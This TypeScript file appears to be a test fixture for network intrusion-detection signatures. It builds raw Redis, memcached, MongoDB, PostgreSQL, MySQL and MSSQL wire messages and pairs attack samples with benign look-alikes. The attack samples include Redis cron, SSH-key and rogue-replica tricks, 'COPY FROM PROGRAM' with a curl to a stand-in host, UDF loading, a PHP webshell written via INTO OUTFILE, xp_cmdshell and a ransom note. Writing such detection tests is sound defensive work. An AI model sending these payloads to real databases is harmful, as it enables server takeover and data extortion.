import { big, hex, little, type SignatureCase, says, signature, talk, utf16 } from '../exchange';

/** A Redis command as clients send it (RESP). */
export const redisCommand = (...words: string[]) =>
  `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`;
const OK = says('+OK\r\n');
const redis = (...commands: (readonly string[] | string)[]) =>
  talk(
    6379,
    ...commands.flatMap((command) => [
      typeof command === 'string' ? `${command}\r\n` : redisCommand(...command),
      OK,
    ]),
  );

/** A binary memcached request. */
export const memcached = (
  opcode: number,
  keyLength: number,
  extras: string,
  bodyLength: number,
  body: string,
) =>
  `\x80${big(1, opcode)}${big(2, keyLength)}${big(1, extras.length)}\0\0\0${big(4, bodyLength)}${little(4, 7)}${'\0'.repeat(8)}${extras}${body}`;

/** A MongoDB OP_MSG with one document, given as its elements. */
export const mongo = (...elements: string[]) => {
  const size = elements.join('').length + 5;
  const document = `${little(4, size)}${elements.join('')}\0`;
  return `${little(4, 16 + 5 + document.length)}${little(4, 1)}${little(4, 0)}${little(4, 2013)}${little(4, 0)}\0${document}`;
};
export const bsonText = (name: string, value: string) =>
  `\x02${name}\0${little(4, value.length + 1)}${value}\0`;
export const bsonCode = (name: string, value: string) =>
  `\x0d${name}\0${little(4, value.length + 1)}${value}\0`;
export const bsonDocument = (name: string, ...elements: string[]) =>
  `\x03${name}\0${little(4, elements.join('').length + 5)}${elements.join('')}\0`;

/** PostgreSQL simple query. */
export const pgQuery = (sql: string) => `Q${big(4, sql.length + 5)}${sql}\0`;
export const PG_STARTUP = `${big(4, 41)}${big(4, 0x30000)}user\0postgres\0database\0postgres\0\0`;
export const PG_READY = says(`R${big(4, 8)}${big(4, 0)}Z${big(4, 5)}I`);
const pg = (...queries: string[]) => talk(5432, PG_STARTUP, PG_READY, ...queries.map(pgQuery));

/** MySQL COM_QUERY. */
export const mysqlQuery = (sql: string) => `${little(3, sql.length + 1)}\0\x03${sql}`;
export const MYSQL_GREETING = says(
  `${little(3, 74)}\0\x0a8.0.36\0${little(4, 11)}abcdefgh\0${hex('fff7ff0200ff8115')}${'\0'.repeat(10)}ijklmnopqrst\0mysql_native_password\0`,
);
export const MYSQL_LOGIN = `${little(3, 84)}\x01${hex('85a67f0000000001 21')}${'\0'.repeat(23)}app\0\x14${'\x5c'.repeat(20)}shop\0mysql_native_password\0`;
const mysql = (...queries: string[]) => talk(3306, MYSQL_GREETING, MYSQL_LOGIN, ...queries.map(mysqlQuery));

/** TDS SQL batch (type 1). */
export const tdsBatch = (sql: string) => {
  const text = utf16(sql);
  return `\x01\x01${big(2, text.length + 8)}\0\0\x01\0${text}`;
};
const mssql = (...queries: string[]) => talk(1433, ...queries.map(tdsBatch));

const NOTE = 'All your data is backed up. You must pay 0.01 BTC';

export const databases: readonly SignatureCase[] = [
  signature(
    9000701,
    [
      redis(['CONFIG', 'SET', 'dir', '/var/spool/cron/'], ['SET', 'x', '\n\n*/1 * * * * id\n\n'], ['SAVE']),
      redis('config set dir /root/.ssh'),
      redis(['config', 'set', 'DIR', '/var/www/html']),
    ],
    [redis(['CONFIG', 'SET', 'dir', '/var/lib/redis']), redis(['CONFIG', 'GET', 'dir'])],
  ),
  signature(
    9000702,
    [redis(['CONFIG', 'SET', 'dbfilename', 'authorized_keys']), redis('config set dbfilename exp.so')],
    [redis(['CONFIG', 'SET', 'dbfilename', 'dump-2026.rdb'])],
  ),
  signature(
    9000704,
    [
      redis(['CONFIG', 'SET', 'dbfilename', 'x.rdb'], ['SLAVEOF', '198.51.100.99', '21000']),
      redis('config set dbfilename red2.so', 'replicaof example.net 8888'),
    ],
    [
      redis(['REPLICAOF', '10.0.0.5', '6379']),
      redis(['CONFIG', 'SET', 'dbfilename', 'dump.rdb'], ['SLAVEOF', 'NO', 'ONE']),
    ],
  ),
  signature(
    9000705,
    [redis(['MODULE', 'LOAD', '/tmp/exp.so']), redis('module load ./red2.so')],
    [redis(['MODULE', 'LIST']), redis(['SET', 'module', 'load'])],
  ),
  signature(
    9000706,
    [
      redis([
        'EVAL',
        'local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return l()',
        '0',
      ]),
      redis(`eval "local f=Package.loadlib('/x','y')" 0`),
    ],
    [redis(['EVAL', "return redis.call('GET', KEYS[1])", '1', 'package'])],
  ),
  signature(
    9000707,
    [redis(['system.exec', 'id']), redis('System.Exec "whoami"')],
    [redis(['SET', 'note', 'docs for the system.exec module'])],
  ),
  signature(
    9000708,
    [
      talk(11211, memcached(0x0e, 0x0a, '', 0x00, 'A'.repeat(1024))),
      talk(11211, memcached(0x01, 0xfa, '\0'.repeat(8), 0x08, 'x')),
    ],
    [talk(11211, memcached(0x0e, 3, '', 8, 'keyvalue')), talk(11211, 'set key 0 60 5\r\nvalue\r\n')],
  ),
  signature(
    9000709,
    [
      talk(27017, mongo(bsonText('insert', 'READ__ME_TO_RECOVER_YOUR_DATA'), bsonText('content', NOTE))),
      mysql(
        'CREATE TABLE `recover_your_data` (`t` text)',
        `INSERT INTO recover_your_data VALUES ('${NOTE}')`,
      ),
    ],
    [talk(27017, mongo(bsonText('insert', 'recovery_jobs'), bsonText('text', 'your data')))],
  ),
  signature(
    9000710,
    [
      talk(
        27017,
        mongo(
          bsonText('find', 'a'),
          bsonDocument('filter', bsonText('$where', 'this.constructor.constructor("return process")()')),
        ),
      ),
      talk(
        27018,
        mongo(
          bsonText('find', 'b'),
          bsonDocument('filter', bsonCode('$where', "nativeHelper.apply({'x':1},[])")),
        ),
      ),
    ],
    [
      talk(
        27017,
        mongo(bsonText('find', 'a'), bsonDocument('filter', bsonText('$where', 'this.price > this.limit'))),
      ),
    ],
  ),
  signature(
    9000711,
    [
      pg('DROP TABLE IF EXISTS x', 'CREATE TABLE x(t text)', "COPY x FROM PROGRAM 'id'"),
      pg('copy "Out" (t) to\n program $$curl http://example.net/$$'),
    ],
    [pg("COPY orders FROM '/srv/import/orders.csv'"), pg("SELECT 'copy of the program' AS t")],
  ),
  signature(
    9000712,
    [
      pg(
        "CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE 'c' STRICT",
      ),
      pg("create function sys(text) returns text as '/tmp/pg_x.so', 'x' language c"),
    ],
    [pg("CREATE FUNCTION add(a int, b int) RETURNS int AS 'select a + b' LANGUAGE sql")],
  ),
  signature(
    9000713,
    [
      mysql("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf.so'"),
      mysql("create aggregate function  f returns string\nsoname 'lib_mysqludf_sys.dll'"),
    ],
    [mysql('CREATE FUNCTION hello (s CHAR(20)) RETURNS CHAR(50) DETERMINISTIC RETURN s')],
  ),
  signature(
    9000714,
    [
      mysql("SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'"),
      mysql('select \'<?php system($_GET[1]);\' into\toutfile "/var/www/html/x.php"'),
    ],
    [mysql("SELECT * FROM orders INTO OUTFILE '/var/lib/mysql-files/orders.csv'")],
  ),
  signature(
    9000715,
    [
      mssql("EXEC sp_configure 'show advanced options', 1; EXEC xp_cmdshell 'whoami'"),
      mssql("exec master..XP_CMDSHELL 'dir'"),
    ],
    [mssql("SELECT name FROM sys.procedures WHERE name LIKE 'xp_%'")],
  ),
  signature(
    9000716,
    [
      mssql(
        "DECLARE @s INT; EXEC sp_oacreate 'wscript.shell', @s OUT; EXEC sp_oamethod @s, 'run', null, 'id'",
      ),
      mssql("exec SP_OACreate 'WScript.Shell',@o output"),
    ],
    [mssql("EXEC sp_oacreate 'Scripting.Dictionary', @d OUT")],
  ),
];
